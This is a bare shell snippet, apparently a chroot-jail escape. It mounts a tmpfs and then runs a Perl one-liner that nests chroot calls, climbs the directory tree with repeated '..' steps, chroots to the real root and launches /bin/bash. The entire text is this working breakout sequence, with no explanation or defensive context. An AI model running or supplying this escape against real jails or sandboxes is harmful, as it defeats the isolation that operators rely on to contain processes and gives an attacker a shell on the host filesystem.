mount -t tmpfs new stage/new
cd stage/new; touch INSIDE; mkdir x
exec perl -e 'chroot "."; chroot "x"; chdir "../../../../../../../.."; chroot "."; exec "/bin/bash"'
